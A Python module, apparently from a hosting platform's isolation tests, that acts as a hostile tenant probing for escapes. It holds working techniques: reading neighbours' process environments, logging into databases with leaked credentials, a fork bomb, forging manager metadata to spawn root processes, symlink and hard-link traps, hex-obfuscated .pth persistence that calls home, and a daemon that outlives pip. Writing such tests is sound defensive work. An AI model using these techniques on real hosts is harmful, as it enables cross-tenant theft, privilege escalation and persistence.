"""hostile_probe: what a hostile experimenter's code tries from inside an instance.

This file is shipped twice: as the package `hostile_probe` inside the sdist that the
hostile project's requirements.txt names (its setup.py runs `run_stage("build")` while pip
builds it), and — installed from that sdist — imported by the project's settings.py (the
settings reader: `run_stage("settings")`; the app process: `run_stage("app")`) and by its
app module (`run_stage("app")` and the on-demand probes behind /hostile/...).

Every probe is one attempt with a bounded time, wrapped so that nothing raises; each
produces a finding

    {"stage": "build|settings|app", "probe": "read|write|create|list|unix|tcp|http|pg|...",
     "target": "<path or address>", "what": "<what the target is>", "reached": bool,
     "expect": "blocked|allowed|info", "detail": "<errno, bytes, answer ...>"}

`expect` comes from the targets file the test wrote (hostile_targets.json, beside this
module in the sdist and at the top of the pushed project): "blocked" for an escape,
"allowed" for a control the stage must reach (its own database, the outside network when
the lab allows it), "info" for a figure. Standard library only (the build stage has
nothing else); psycopg2 is used for a real login when it is importable.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

HERE = os.path.dirname(os.path.abspath(__file__))
MARK = "@@HOSTILE@@"
FINDINGS: list[dict] = []  # everything this process found
_ran: set[str] = set()
_lock = threading.Lock()
CONNECT_TIMEOUT = 2.0


# --- targets and findings ---------------------------------------------------------------

def load_targets(project_dir: str | None = None) -> dict:
    """The targets the test wrote: beside this module (the sdist, the installed package)
    or at the top of the pushed project."""
    for folder in [project_dir, HERE, os.getcwd()]:
        if not folder:
            continue
        try:
            with open(os.path.join(folder, "hostile_targets.json")) as fh:
                return json.load(fh)
        except (OSError, ValueError):
            continue
    return {}


def expectation(spec: dict, stage: str, key: str = "expect") -> str:
    value = spec.get(key, "blocked")
    if isinstance(value, dict):
        value = value.get(stage, value.get("*", "info"))
    return value


def record(stage, probe, target, reached, detail="", expect="blocked", what="", echo=False) -> dict:
    item = {"stage": stage, "probe": probe, "target": str(target), "what": what, "reached": bool(reached),
            "expect": expect, "detail": str(detail)[:300]}
    with _lock:
        FINDINGS.append(item)
    if echo:  # into the app's log too (never in the settings reader: its output is parsed)
        try:
            print(MARK + json.dumps(item), flush=True)
        except Exception:  # noqa: BLE001
            pass
    return item


def _why(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.errno:
        return f"{errno.errorcode.get(exc.errno, exc.errno)}: {exc.strerror}"
    return f"{type(exc).__name__}: {exc}"[:200]


def _safe(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except Exception as exc:  # noqa: BLE001 - a probe never takes its host down
        return {"probe": getattr(fn, "__name__", "?"), "reached": False, "detail": f"probe crashed: {_why(exc)}"}


# --- identity -----------------------------------------------------------------------------

def identity(stage: str, targets: dict) -> list[dict]:
    uid, euid = os.getuid(), os.geteuid()
    cap = ""
    try:
        with open("/proc/self/status") as fh:
            cap = next((line.split()[1] for line in fh if line.startswith("CapEff:")), "")
    except OSError:
        pass
    groups = sorted(set(os.getgroups()))
    out = [record(stage, "identity", f"uid={uid} euid={euid} gid={os.getgid()} groups={groups}",
                  False, f"cwd={os.getcwd()} pid={os.getpid()} host={socket.gethostname()} cap={cap}",
                  expect="info", what="who runs this stage")]
    out.append(record(stage, "root", "uid 0", uid == 0 or euid == 0, f"uid={uid} euid={euid}",
                      what="runs as root"))
    out.append(record(stage, "capabilities", "CapEff", bool(cap) and int(cap, 16) != 0, f"CapEff={cap}",
                      what="holds Linux capabilities"))
    forbidden = set(targets.get("forbidden_uids") or [])
    if forbidden:
        out.append(record(stage, "uid", f"not {sorted(forbidden)}", uid in forbidden or euid in forbidden,
                          f"uid={uid}", what="runs as the manager's or another instance's user"))
    return out


# --- files ------------------------------------------------------------------------------------

def probe_read(stage: str, spec: dict) -> dict:
    path = spec["path"]
    what = spec.get("what", "")
    expect = expectation(spec, stage, "read")
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            return record(stage, "list", path, True, f"{len(names)} entries", expect, what)
        with open(path, "rb") as fh:
            data = fh.read(256)
        return record(stage, "read", path, True, f"read {len(data)} bytes", expect, what)
    except OSError as exc:
        return record(stage, "read", path, False, _why(exc), expect, what)


def probe_write(stage: str, spec: dict) -> dict:
    """A file: opened for writing (nothing written); a folder: a new file created in it
    (and removed again)."""
    path = spec["path"]
    what = spec.get("what", "")
    expect = expectation(spec, stage, "write")
    try:
        if os.path.isdir(path):
            probe = os.path.join(path, f".hostile-{stage}-{os.getpid()}-{time.monotonic_ns()}")
            fd = os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o600)
            os.close(fd)
            os.unlink(probe)
            return record(stage, "create", path, True, "created a file in it", expect, what)
        fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NOFOLLOW)
        os.close(fd)
        return record(stage, "write", path, True, "opened for writing", expect, what)
    except OSError as exc:
        if os.path.isdir(path):
            return record(stage, "create", path, False, _why(exc), expect, what)
        if isinstance(exc, PermissionError) and _replaceable(path):
            return record(stage, "write", path, True, f"{_why(exc)}, but its folder is ours: it can be replaced",
                          expect, what)
        return record(stage, "write", path, False, _why(exc), expect, what)


def _replaceable(path: str) -> bool:
    """Whether a new file can be made beside `path` (and renamed over it)."""
    probe = os.path.join(os.path.dirname(path) or ".", f".hostile-replace-{os.getpid()}-{time.monotonic_ns()}")
    try:
        fd = os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o600)
    except OSError:
        return False
    os.close(fd)
    os.unlink(probe)
    return True


# --- sockets ------------------------------------------------------------------------------

def _pg_startup(user: str = "postgres", database: str = "postgres") -> bytes:
    params = b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0\0"
    body = struct.pack("!I", 196608) + params
    return struct.pack("!I", len(body) + 4) + body


def _hello(proto: str, spec: dict) -> bytes:
    if proto == "redis":
        password = spec.get("password")
        auth = f"AUTH {password}\r\n".encode() if password else b""
        return auth + b"PING\r\nSET hostile-was-here 1\r\n"
    if proto == "pg":
        return _pg_startup(spec.get("user") or "postgres", spec.get("dbname") or "postgres")
    if proto == "http":
        path = spec.get("http_path", "/")
        return f"GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n".encode()
    if proto == "json":
        return b'{"hook": "pre-receive", "git_dir": "/", "stdin": ""}\n'
    return b""


def _converse(sock: socket.socket, proto: str, spec: dict) -> str:
    hello = _hello(proto, spec)
    if hello:
        sock.sendall(hello)
    sock.settimeout(CONNECT_TIMEOUT)
    try:
        answer = sock.recv(300)
    except (socket.timeout, OSError) as exc:
        return f"connected; no answer ({_why(exc)})"
    return f"connected; answer {answer[:120]!r}"


def probe_unix(stage: str, spec: dict) -> dict:
    path = spec["path"]
    proto = spec.get("proto", "raw")
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(CONNECT_TIMEOUT)
    try:
        sock.connect(path)
        detail = _converse(sock, proto, spec)
        return record(stage, "unix", path, True, detail, expectation(spec, stage), spec.get("what", ""))
    except OSError as exc:
        return record(stage, "unix", path, False, _why(exc), expectation(spec, stage), spec.get("what", ""))
    finally:
        sock.close()


def probe_tcp(stage: str, spec: dict) -> dict:
    host, port = spec["host"], int(spec["port"])
    proto = spec.get("proto", "raw")
    target = f"{host}:{port}"
    try:
        sock = socket.create_connection((host, port), timeout=CONNECT_TIMEOUT)
    except OSError as exc:
        return record(stage, "tcp", target, False, _why(exc), expectation(spec, stage), spec.get("what", ""))
    try:
        detail = _converse(sock, proto, spec)
    finally:
        sock.close()
    return record(stage, "tcp", target, True, detail, expectation(spec, stage), spec.get("what", ""))


def probe_http(stage: str, spec: dict, run: str = "") -> dict:
    url = spec["url"].rstrip("/") + f"/{spec.get('path', 'control')}/{stage}/{run}"
    try:
        with urllib.request.urlopen(url, timeout=spec.get("timeout", 4)) as resp:
            body = resp.read(200)
        return record(stage, "http", spec["url"], True, f"HTTP {resp.status} {body[:60]!r}",
                      expectation(spec, stage), spec.get("what", ""))
    except Exception as exc:  # noqa: BLE001 - URLError, timeouts, resets
        reason = getattr(exc, "reason", exc)
        return record(stage, "http", spec["url"], False, _why(reason) if isinstance(reason, BaseException)
                      else str(reason), expectation(spec, stage), spec.get("what", ""))


PG_LOGIN = r'''
import json, sys
spec, stage = json.loads(sys.stdin.read()), sys.argv[1]
try:
    import psycopg2
except ImportError as exc:
    print(json.dumps({"import": str(exc)}))
    raise SystemExit(0)
try:
    conn = psycopg2.connect(host=spec["host"], port=int(spec.get("port", 5432)), user=spec.get("user"),
                            password=spec.get("password"), dbname=spec.get("dbname"), connect_timeout=3)
except Exception as exc:
    print(json.dumps({"reached": False, "detail": f"{type(exc).__name__}: {str(exc).strip().splitlines()[0]}"}))
    raise SystemExit(0)
try:
    conn.autocommit = True
    cur = conn.cursor()
    cur.execute("CREATE TABLE IF NOT EXISTS hostile_was_here (stage text)")
    cur.execute("INSERT INTO hostile_was_here VALUES (%s)", [stage])
    detail = "logged in and wrote a row"
except Exception as exc:
    detail = f"logged in; write failed: {exc}"
finally:
    conn.close()
print(json.dumps({"reached": True, "detail": detail}))
'''


def probe_pg_login(stage: str, spec: dict) -> dict:
    """A real login with the credentials (the neighbour's, as if leaked; or our own) and a
    write: what reaching a database means. In a fresh interpreter (an address-space limit
    may leave the caller no room to load libpq)."""
    target = f"{spec['host']}:{spec.get('port', 5432)}/{spec.get('dbname', '')}"
    expect = expectation(spec, stage)
    try:
        # (the spec on stdin: the neighbour's path in our command line would pass for its process)
        result = subprocess.run([sys.executable, "-I", "-c", PG_LOGIN, stage], input=json.dumps(spec),
                                capture_output=True, text=True, timeout=30)
        answer = json.loads((result.stdout.strip().splitlines() or ["{}"])[-1])
    except Exception as exc:  # noqa: BLE001
        return record(stage, "pg-login", target, False, f"the login helper failed: {_why(exc)}", "info",
                      spec.get("what", ""))
    if "import" in answer or not answer:
        why = answer.get("import") or (result.stderr.strip().splitlines() or ["no answer"])[-1]
        return record(stage, "pg-login", target, False, f"psycopg2 not usable here: {why}", "info",
                      spec.get("what", ""))
    return record(stage, "pg-login", target, answer["reached"], answer["detail"], expect, spec.get("what", ""))


def own_services(stage: str) -> list[dict]:
    """Controls: the instance's own database and Redis, from its environment."""
    out = []
    database = os.environ.get("DATABASE_URL", "")
    if database.startswith(("postgres://", "postgresql://")):
        url = urllib.parse.urlsplit(database)
        query = urllib.parse.parse_qs(url.query)
        host = (query.get("host") or [url.hostname or ""])[0]
        spec = {"host": host, "port": url.port or 5432, "user": urllib.parse.unquote(url.username or ""),
                "password": urllib.parse.unquote(url.password or ""), "dbname": url.path.lstrip("/"),
                "expect": "allowed", "what": "its own PostgreSQL"}
        out.append(probe_pg_login(stage, spec))
    elif database.startswith("sqlite:"):
        path = database.split("sqlite:///", 1)[-1]
        try:
            import sqlite3  # noqa: PLC0415

            with sqlite3.connect(path, timeout=3) as conn:
                conn.execute("CREATE TABLE IF NOT EXISTS hostile_own (x)")
            out.append(record(stage, "sqlite", path, True, "wrote its own database", "allowed", "its own SQLite"))
        except Exception as exc:  # noqa: BLE001
            out.append(record(stage, "sqlite", path, False, _why(exc), "allowed", "its own SQLite"))
    redis_url = os.environ.get("REDIS_URL", "")
    if redis_url:
        url = urllib.parse.urlsplit(redis_url)
        password = urllib.parse.unquote(url.password or "") or None
        if url.scheme == "unix":
            out.append(probe_unix(stage, {"path": url.path, "proto": "redis", "password": password,
                                          "expect": "allowed", "what": "its own Redis"}))
        else:
            out.append(probe_tcp(stage, {"host": url.hostname, "port": url.port or 6379, "proto": "redis",
                                         "password": password, "expect": "allowed", "what": "its own Redis"}))
    return out


# --- processes ------------------------------------------------------------------------------

def _pids_matching(text: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text and text in cmd and "hostile" not in cmd:  # (not one of our own helpers)
            found.append(int(entry))
    return found


def neighbour_processes(stage: str, targets: dict) -> list[dict]:
    """Signal (signal 0) and read the environment (its DATABASE_URL) of the neighbour's
    processes, found by their command lines."""
    match = (targets.get("neighbour") or {}).get("match", "")
    if not match:
        return []
    pids = _pids_matching(match)
    if not pids:
        return [record(stage, "signal", match, False, "no process of the neighbour is visible", "blocked",
                       "the neighbour's processes")]
    out = []
    signalled = []
    for pid in pids[:20]:
        try:
            os.kill(pid, 0)
            signalled.append(pid)
        except OSError:
            pass
    out.append(record(stage, "signal", match, bool(signalled),
                      f"{len(signalled)} of {len(pids)} visible processes accept signals from us",
                      "blocked", "the neighbour's processes"))
    readable = []
    for pid in pids[:20]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                if fh.read(64):
                    readable.append(pid)
        except OSError:
            pass
    out.append(record(stage, "environ", match, bool(readable), f"{len(readable)} environments readable",
                      "blocked", "the neighbour's environment (its secrets)"))
    return out


# --- limits ------------------------------------------------------------------------------------

BOMB = r'''
import os, sys, time
n, hold = int(sys.argv[1]), float(sys.argv[2])
r, w = os.pipe()
count, err, pids = 0, "", []
for _ in range(n):
    try:
        pid = os.fork()
    except OSError as exc:
        err = exc.strerror or str(exc)
        break
    if pid == 0:
        os.close(w)
        try:
            os.read(r, 1)
        finally:
            os._exit(0)
    pids.append(pid)
    count += 1
print(count, err, flush=True)
time.sleep(hold)
os.close(w)
for pid in pids:
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
'''


def fork_bomb(stage: str, n: int = 2000, hold: float = 1.0) -> dict:
    """Fork `n` processes that all stay alive together (a small helper forks them, so the
    caller stays lean); reached when every fork succeeded (no process cap)."""
    try:
        result = subprocess.run([sys.executable, "-I", "-S", "-c", BOMB, str(n), str(hold)], capture_output=True,
                                text=True, timeout=90)
        first = (result.stdout.strip().splitlines() or ["0 no output"])[0]
        count_text, _, err = first.partition(" ")
        count = int(count_text) if count_text.isdigit() else 0
        detail = f"forked {count} of {n}" + (f" ({err})" if err else "") + \
                 (f"; exit {result.returncode}" if result.returncode else "")
    except Exception as exc:  # noqa: BLE001
        count, detail = 0, f"the fork helper failed: {_why(exc)}"
    return record(stage, "forks", f"{n} processes", count >= n, detail, "blocked", "a fork bomb is capped")


ALLOC = r'''
import sys
target, got, chunks = int(sys.argv[1]), 0, []
try:
    while got < target:
        chunks.append(b"\x01" * (16 << 20))  # written: really resident
        got += 16
        print(got, flush=True)
    print("done", flush=True)
except MemoryError:
    print("MemoryError", flush=True)
'''


def allocate(stage: str, mb: int) -> dict:
    """Allocate (and touch) `mb` MiB in a child; reached when all of it was granted."""
    try:
        result = subprocess.run([sys.executable, "-I", "-S", "-c", ALLOC, str(mb)], capture_output=True, text=True,
                                timeout=120)
        lines = result.stdout.split()
        got = max([int(x) for x in lines if x.isdigit()] or [0])
        done = "done" in lines
        how = "granted" if done else ("MemoryError" if "MemoryError" in lines else f"exit {result.returncode}")
        detail = f"{how} at {got} MiB of {mb}"
    except Exception as exc:  # noqa: BLE001
        done, detail = False, f"the allocation helper failed: {_why(exc)}"
    return record(stage, "memory", f"{mb} MiB", done, detail, "blocked", "memory beyond the instance's limit")


def _cgroup_limits() -> list[tuple[int, str]]:
    """(bytes, where) of every memory limit above this process: cgroup v1 and v2, from its
    own cgroup up to the root of the mount (inside a container the mount's root is the
    container's own cgroup)."""
    found = []
    try:
        with open("/proc/self/cgroup") as fh:
            lines = fh.read().splitlines()
    except OSError:
        lines = []
    paths = []
    for line in lines:
        _, controllers, path = (line.split(":", 2) + ["", ""])[:3]
        if "memory" in controllers.split(","):
            paths.append(("/sys/fs/cgroup/memory", path, "memory.limit_in_bytes", "cgroup v1"))
        elif controllers == "":
            paths.append(("/sys/fs/cgroup", path, "memory.max", "cgroup v2"))
    for mount, path, name, kind in paths:
        parts = [p for p in path.split("/") if p]
        for depth in range(len(parts), -1, -1):
            file = os.path.join(mount, *parts[:depth], name)
            try:
                with open(file) as fh:
                    value = fh.read().strip()
            except OSError:
                continue
            if value.isdigit():
                found.append((int(value), f"{kind} {file}"))
    return found


def memory_limit(stage: str, mb: int) -> dict:
    """The build's memory probe: the limits it runs under (cgroups, RLIMIT_AS), not an
    allocation — a build whose process is killed for memory fails, and this build must
    finish to deploy the rest of the attack. Reached when nothing stops `mb` MiB."""
    import resource  # noqa: PLC0415

    limits = _cgroup_limits()
    soft = resource.getrlimit(resource.RLIMIT_AS)[0]
    if soft != resource.RLIM_INFINITY:
        limits.append((soft, "RLIMIT_AS"))
    lowest = min(limits, default=(None, "no limit found"))
    reached = lowest[0] is None or lowest[0] >= mb * 2**20
    detail = f"lowest limit {lowest[0] // 2**20} MiB ({lowest[1]})" if lowest[0] is not None else lowest[1]
    return record(stage, "memory", f"{mb} MiB", reached, detail, "blocked", "memory beyond the instance's limit")


BUSY = r'''
import sys, time
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    pass
'''


def busy(stage: str, seconds: float = 6.0, procs: int = 4) -> dict:
    """Busy loops in `procs` processes for `seconds`; the CPU they got per second of wall
    time (a figure: the test asserts the neighbour answers meanwhile, not this number)."""
    started = time.monotonic()
    before = os.times()
    children = [subprocess.Popen([sys.executable, "-I", "-S", "-c", BUSY, str(seconds)]) for _ in range(procs)]
    for child in children:
        try:
            child.wait(timeout=seconds + 30)
        except subprocess.TimeoutExpired:
            child.kill()
    after = os.times()
    wall = time.monotonic() - started
    cpu = (after.children_user + after.children_system) - (before.children_user + before.children_system)
    return record(stage, "cpu", f"{procs} busy loops", False, f"{cpu / wall:.2f} CPUs used over {wall:.1f} s",
                  "info", "CPU a busy loop gets")


# --- the process runtime's metadata and environments -----------------------------------------------

def _metadata_files(targets: dict) -> list[str]:
    """The manager's files about this instance: the ones the test named, and those an
    attacker finds walking up from its own folders."""
    found = list((targets.get("own_metadata") or []))
    starts = [os.getcwd(), HERE]
    for var in ("DATABASE_URL", "REDIS_URL"):
        value = os.environ.get(var, "")
        if "host=" in value:
            starts.append(value.split("host=", 1)[1].split("&")[0])
        elif value.startswith("unix://"):
            starts.append(os.path.dirname(value[len("unix://"):]))
        elif value.startswith("sqlite:///"):
            starts.append(os.path.dirname("/" + value[len("sqlite:///"):].lstrip("/")))
    for start in starts:
        folder = os.path.abspath(start)
        for _ in range(5):
            for name in ("instance.json", "spec.json", "state.json", "supervisor.lock"):
                candidate = os.path.join(folder, name)
                if os.path.exists(candidate) and candidate not in found:
                    found.append(candidate)
            folder = os.path.dirname(folder)
    return found


def rewrite_metadata(stage: str, targets: dict, keep: float = 0.0) -> list[dict]:
    """The attack on the process runtime's files: instance.json says we are root, state.json
    points our log at the manager's key and our pids at the neighbour's processes,
    spec.json gains a process, symlinks wait where the manager writes temporary files.
    With `keep`, a thread rewrites state.json for that long (racing its writer)."""
    out = []
    secrets = targets.get("manager", {}).get("key_file", "")
    neighbour = _pids_matching((targets.get("neighbour") or {}).get("match", ""))
    forged_state = {"supervisor": neighbour[0] if neighbour else 1, "token": "hostile",
                    "processes": {"app": {"pid": neighbour[-1] if neighbour else 1, "running": True,
                                          "log": secrets, "key": "hostile", "restarts": 0}}}
    for path in _metadata_files(targets):
        name = os.path.basename(path)
        try:
            with open(path) as fh:
                current = json.load(fh)
        except (OSError, ValueError):
            current = {}
        if name == "instance.json":
            new = {**current, "user": "root"}
        elif name == "state.json":
            new = {**current, **forged_state}
        elif name == "spec.json":
            processes = dict(current.get("processes") or {})
            processes["hostile"] = {"argv": ["/bin/sh", "-c", f"id > /tmp/hostile-spec-ran-{targets.get('run', 'x')}"], "user": "root",
                                    "uid": 0, "env": {}, "cwd": "/"}
            new = {**current, "processes": processes}
        else:
            new = None
        try:
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NOFOLLOW)
                how = "rewritten"
            except PermissionError:  # read-only, but in a folder of ours? Replaced.
                replacement = f"{path}.hostile"
                fd = os.open(replacement, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOFOLLOW, 0o644)
                how = "replaced"
            with os.fdopen(fd, "w") as fh:
                if new is not None:
                    fh.truncate(0)
                    json.dump(new, fh)
            if how == "replaced":
                os.replace(f"{path}.hostile", path)
            out.append(record(stage, "metadata", path, True, how if new is not None else f"{how} (empty)",
                              "blocked", f"the manager's {name} of this instance"))
        except OSError as exc:
            out.append(record(stage, "metadata", path, False, _why(exc), "blocked",
                              f"the manager's {name} of this instance"))
    # Where root writes temporary files next to them: a planted link to the manager's secrets.
    planted = targets.get("plant_links") or []
    for item in planted:
        link, target = item["link"], item["target"]
        try:
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)
            out.append(record(stage, "symlink", link, True, f"-> {target}", "blocked", item.get("what", "")))
        except OSError as exc:
            out.append(record(stage, "symlink", link, False, _why(exc), "blocked", item.get("what", "")))
    if keep > 0:
        state = next((p for p in _metadata_files(targets) if p.endswith("state.json")), None)
        if state:  # a process of its own session: it outlives a restart of the app
            subprocess.Popen([sys.executable, "-I", "-S", "-c", KEEP_REWRITING, state, json.dumps(forged_state),
                              str(keep)], start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return out


KEEP_REWRITING = r'''
import os, sys, time
path, text, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        tmp = path + ".hostile"
        with open(tmp, "w") as fh:
            fh.write(text)
        os.replace(tmp, path)
    except OSError:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW)
            with os.fdopen(fd, "w") as fh:
                fh.write(text)
        except OSError:
            break  # not ours to write: nothing to race
    time.sleep(0.05)
'''


def link_database(stage: str, targets: dict, undo: bool = False) -> list[dict]:
    """SQLite: our database file becomes a link to the manager's database (a backup of
    "our" database would then be the manager's); `undo` puts our own file back."""
    database = os.environ.get("DATABASE_URL", "")
    target = (targets.get("manager") or {}).get("db", "")
    if not database.startswith("sqlite:///") or not target:
        return [record(stage, "dblink", database.split(":", 1)[0] or "(none)", False, "not an SQLite instance",
                       "info", "its database file linked to the manager's")]
    path = "/" + database.split("sqlite:///", 1)[1].lstrip("/")
    kept = f"{path}.hostile-own"
    if undo:
        try:
            os.replace(kept, path)
            return [record(stage, "dblink", path, False, "its own file is back", "info", "undone")]
        except OSError as exc:
            return [record(stage, "dblink", path, False, _why(exc), "info", "undone")]
    try:
        if os.path.exists(path) and not os.path.islink(path):
            os.link(path, kept)
        tmp = f"{path}.hostile-link"
        if os.path.lexists(tmp):
            os.unlink(tmp)
        os.symlink(target, tmp)
        os.replace(tmp, path)
        return [record(stage, "dblink", path, True, f"now -> {target}", "info",
                       "its database file linked to the manager's (the backup must not follow it)")]
    except OSError as exc:
        return [record(stage, "dblink", path, False, _why(exc), "info", "its database file linked to the manager's")]


def _own_folders() -> list[str]:
    """The folders of its own an app can write: HOME, its database's, its sockets', its cwd."""
    folders = [os.environ.get("HOME", ""), os.getcwd()]
    for var in ("DATABASE_URL", "REDIS_URL"):
        value = os.environ.get(var, "")
        if value.startswith("sqlite:///"):
            folders.append(os.path.dirname("/" + value[len("sqlite:///"):].lstrip("/")))
        elif value.startswith("unix://"):
            folders.append(os.path.dirname(value[len("unix://"):]))
        elif "host=" in value:
            folders.append(value.split("host=", 1)[1].split("&")[0])
    return [f for i, f in enumerate(folders) if f and f not in folders[:i] and os.access(f, os.W_OK)]


def plant_tree_links(stage: str, targets: dict) -> list[dict]:
    """Traps for root in every folder of ours: symbolic links to the neighbour's folder and
    to the manager's secrets (a removal, backup or chown that follows them), and a hard link
    to the manager's key (a `chown -R` of our tree would hand it to us)."""
    out = []
    aims = [("victim", (targets.get("neighbour") or {}).get("dir", "")),
            ("secrets", os.path.dirname((targets.get("manager") or {}).get("key_file", "")))]
    key = (targets.get("manager") or {}).get("key_file", "")
    for folder in _own_folders():
        for label, aim in aims:
            if not aim:
                continue
            link = os.path.join(folder, f"hostile-to-{label}")
            try:
                if os.path.lexists(link):
                    os.unlink(link)
                os.symlink(aim, link)
                out.append(record(stage, "trap", link, True, f"-> {aim}", "info", "a link for root to follow"))
            except OSError as exc:
                out.append(record(stage, "trap", link, False, _why(exc), "info", "a link for root to follow"))
        if key:
            link = os.path.join(folder, "hostile-key")
            try:
                os.link(key, link)
                out.append(record(stage, "hardlink", link, True, f"a hard link to {key}", "blocked",
                                  "the manager's key linked into our tree"))
            except OSError as exc:
                out.append(record(stage, "hardlink", link, False, _why(exc), "blocked",
                                  "the manager's key linked into our tree"))
    return out


def pth_code(targets: dict, planter: str) -> str:
    """One line of a .pth file: whoever starts Python in that environment leaves a marker
    file and calls home (so the test sees who ran it)."""
    run = targets.get("run", "x")
    url = (targets.get("outside") or {}).get("url", "")
    body = (
        "try:\n"
        " import os, urllib.request\n"
        f" n = 'hostile-pth-{run}-{planter}-%s-%d-%d' % (os.environ.get('PROBE_ROLE', 'unknown'), os.getuid(), os.getpid())\n"
        " for d in {'/tmp', os.environ.get('HOME') or '/tmp'}:\n"
        "  try:\n"
        "   open(os.path.join(d, n), 'w').close()\n"
        "  except OSError:\n"
        "   pass\n"
        f" urllib.request.urlopen('{url}/pth-ran/{run}/{planter}/%s' % os.environ.get('PROBE_ROLE', 'unknown'), timeout=1).close() if '{url}' else None\n"
        "except Exception:\n"
        " pass\n"
    )
    return f"import os; exec(bytes.fromhex('{body.encode().hex()}').decode())\n"


def _site_dirs() -> list[str]:
    import sysconfig  # noqa: PLC0415

    dirs = [sysconfig.get_paths().get("purelib", ""), sysconfig.get_paths().get("platlib", "")]
    dirs += [p for p in sys.path if p.endswith(("site-packages", "dist-packages"))]
    return [d for i, d in enumerate(dirs) if d and d not in dirs[:i] and os.path.isdir(d)]


def plant_pth(stage: str, targets: dict) -> list[dict]:
    """A .pth in every site-packages of our environment: it runs in every later Python of
    that environment (another instance's too, when environments are shared)."""
    out = []
    expect = targets.get("pth_expect", "blocked")
    for folder in _site_dirs():
        path = os.path.join(folder, f"zz_hostile_{stage}_{targets.get('run', 'x')}.pth")
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOFOLLOW, 0o644)
            with os.fdopen(fd, "w") as fh:
                fh.write(pth_code(targets, stage))
            out.append(record(stage, "pth", path, True, "planted", expect, "a .pth in its environment"))
        except OSError as exc:
            out.append(record(stage, "pth", path, False, _why(exc), expect, "a .pth in its environment"))
    return out


DAEMON_SECONDS = 240


def start_build_daemon(targets: dict) -> dict:
    """From setup.py: a process that outlives pip (double fork, own session). It keeps a
    .pth in the environment open for writing; once the build is over (pip gone, and the
    environment marked complete or 15 s passed) it writes its code through that handle and
    calls home — i.e. it poisons the finished environment, if it still lives."""
    site = next(iter(_site_dirs()), "")
    pip_pid = os.getppid()
    try:
        pid = os.fork()
    except OSError as exc:
        return record("build", "daemon", "fork", False, _why(exc), "info", "a daemon outliving the build")
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return record("build", "daemon", site, True, f"started beside pip {pip_pid}", "info",
                      "a daemon outliving the build")
    try:  # the first child: a new session, then the daemon itself
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        _daemon(targets, site, pip_pid)
    finally:
        os._exit(0)


def _daemon(targets: dict, site: str, pip_pid: int) -> None:
    run = targets.get("run", "x")
    url = (targets.get("outside") or {}).get("url", "")
    handle = None
    try:
        handle = open(os.path.join(site, f"zz_hostile_daemon_{run}.pth"), "w")  # empty: harmless during the build
    except OSError:
        pass
    started = time.monotonic()
    pip_gone_at = None
    while time.monotonic() - started < DAEMON_SECONDS:
        time.sleep(0.5)
        if pip_gone_at is None:
            try:
                os.kill(pip_pid, 0)
                continue
            except ProcessLookupError:
                pip_gone_at = time.monotonic()
            except OSError:
                continue
        sealed = os.path.exists(os.path.join(sys.prefix, ".complete"))
        if not sealed and time.monotonic() - pip_gone_at < 15:
            continue
        if handle is not None:
            try:
                handle.seek(0)
                handle.truncate()
                handle.write(pth_code(targets, "daemon"))
                handle.flush()
            except OSError:
                pass
        try:
            open(f"/tmp/hostile-daemon-{run}-survived", "w").close()
        except OSError:
            pass
        try:
            urllib.request.urlopen(f"{url}/daemon-survived/{run}", timeout=2).close()
        except Exception:  # noqa: BLE001
            pass
        return


# --- a whole stage ------------------------------------------------------------------------------------

def network_probes(stage: str, targets: dict) -> list[dict]:
    jobs = []
    for spec in targets.get("unix") or []:
        jobs.append((probe_unix, stage, spec))
    for spec in targets.get("tcp") or []:
        jobs.append((probe_tcp, stage, spec))
    for spec in targets.get("pg") or []:
        jobs.append((probe_pg_login, stage, spec))
    outside = targets.get("outside")
    if outside:
        jobs.append((probe_http, stage, outside, targets.get("run", "")))
    return _parallel(jobs)


def _parallel(jobs: list[tuple], workers: int = 8) -> list[dict]:
    """The jobs on a few small threads (an address-space limit may allow no more); what
    could not be started runs one after the other."""
    results: list = [None] * len(jobs)
    try:
        previous = threading.stack_size(512 * 1024)
    except (ValueError, RuntimeError):
        previous = None
    try:
        with ThreadPoolExecutor(workers) as pool:
            futures = {}
            for i, job in enumerate(jobs):
                try:
                    futures[i] = pool.submit(_safe, *job)
                except RuntimeError:  # can't start new thread
                    break
            for i, future in futures.items():
                results[i] = future.result()
    except RuntimeError:
        pass
    finally:
        if previous is not None:
            threading.stack_size(previous)
    return [result if result is not None else _safe(*job) for result, job in zip(results, jobs)]


def file_probes(stage: str, targets: dict) -> list[dict]:
    out = []
    for spec in targets.get("files") or []:
        if expectation(spec, stage, "read") != "skip":
            out.append(_safe(probe_read, stage, spec))
